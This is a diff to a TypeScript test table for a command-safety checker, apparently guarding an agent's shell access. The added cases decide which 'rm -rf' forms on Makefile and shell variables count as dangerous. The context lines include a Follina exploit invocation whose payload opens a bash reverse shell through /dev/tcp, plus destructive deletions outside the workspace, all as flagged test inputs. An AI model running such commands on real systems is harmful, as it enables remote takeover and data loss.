@@ -3990,6 +3990,10 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['../sail/bin/sail artisan migrate --no-interaction', false],
     ['cd /tmp && ../x', true, 'outside the workspace'],
     ['rm -rf ../daemon/ui/protocol/ui.pb.go', true, 'outside the workspace'],
+    // A Makefile's build directory removed by its recipe; its install directory, the home, or a shell variable stay judged.
+    ['rm -rf $(BUILD_DIR) dist $(TOOLS_DIR)', false],
+    ['rm -rf $(INSTALL_PATH)', true, 'outside the workspace'],
+    ['rm -rf $BUILD_DIR', true, 'built from a variable'],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
